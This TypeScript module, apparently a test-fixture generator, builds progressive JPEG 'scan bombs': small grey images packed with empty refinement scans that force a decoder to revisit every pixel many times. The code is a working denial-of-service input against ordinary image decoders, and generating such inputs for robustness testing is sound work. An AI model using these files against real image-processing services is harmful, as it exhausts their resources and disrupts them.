/** JPEGs of a few hundred KB whose many empty scans keep a decoder busy: each walks over all pixels. */
import { big, bytesOf, eoi, joined, jpeg, segment } from "./files.ts";

/** What a bomb is made of. */
export interface ScanBomb {
  readonly width: number;
  readonly height: number;
  /** 1 or 3 channels. */
  readonly channels: number;
  /** Parts into which the 63 coefficients of a block are split; each is refined by itself. */
  readonly bands: number;
  /** How often each band is refined; up to 12 times is a legal progression. */
  readonly refinements: number;
}

/** A progressive JPEG, wholly grey. */
export function scanBomb(bomb: ScanBomb): Uint8Array<ArrayBuffer> {
  const blocks = Math.ceil(bomb.width / 8) * Math.ceil(bomb.height / 8);
  const means = new Uint8Array(Math.ceil(blocks / 8));
  const nothing = emptyBlocks(blocks);
  const parts: Uint8Array[] = [headOf(bomb)];
  for (let channel = 1; channel <= bomb.channels; channel++) {
    parts.push(scanHeader(channel, [0, 0], 0), means);
  }
  for (const header of refinements(bomb)) parts.push(header, nothing);
  return joined([...parts, eoi]);
}

/** Tables of one code each, "0": no difference for means, a run of empty blocks for the rest. */
function headOf({ width, height, channels }: ScanBomb): Uint8Array {
  const oneCode = (id: number, symbol: number) => bytesOf(id, 1, new Uint8Array(15), symbol);
  const ids = Array.from({ length: channels }, (_, at) => bytesOf(at + 1, 0x11, 0));
  return jpeg(
    segment(0xdb, bytesOf(0, new Uint8Array(64).fill(1))),
    segment(0xc2, bytesOf(8, big(height, 2), big(width, 2), channels, ...ids)),
    segment(0xc4, bytesOf(oneCode(0, 0), oneCode(0x10, 0xe0))),
  );
}

/** ITU-T T.81 B.2.3: coefficients from and to, then the bits before and after this scan. */
function scanHeader(channel: number, band: readonly number[], bits: number): Uint8Array {
  return segment(0xda, bytesOf(1, channel, 0, ...band, bits));
}

function* refinements({ channels, bands, refinements: count }: ScanBomb): Generator<Uint8Array> {
  const width = Math.ceil(63 / bands);
  for (let channel = 1; channel <= channels; channel++) {
    for (let from = 1; from <= 63; from += width) {
      const band = [from, Math.min(63, from + width - 1)];
      yield scanHeader(channel, band, Math.min(count, 12));
      for (let left = count - 1; left >= 0; left--) yield scanHeader(channel, band, bitsOf(left));
    }
  }
}

/** Refinement of one bit more; of the last one again and again when there are more than are legal. */
function bitsOf(left: number): number {
  return left < 12 ? left + 1 << 4 | left : 0xcb;
}

/** Runs of empty blocks, 32767 at a time: the code "0" and 14 bits. */
function emptyBlocks(blocks: number): Uint8Array {
  const run = "0" + "1".repeat(14);
  const bits = run.repeat(Math.ceil(blocks / 32767));
  const bytes = bits.match(/.{1,8}/g)?.map((byte) => parseInt(byte.padEnd(8, "1"), 2)) ?? [];
  return bytesOf(...bytes.flatMap((byte) => byte === 255 ? [255, 0] : [byte]));
}
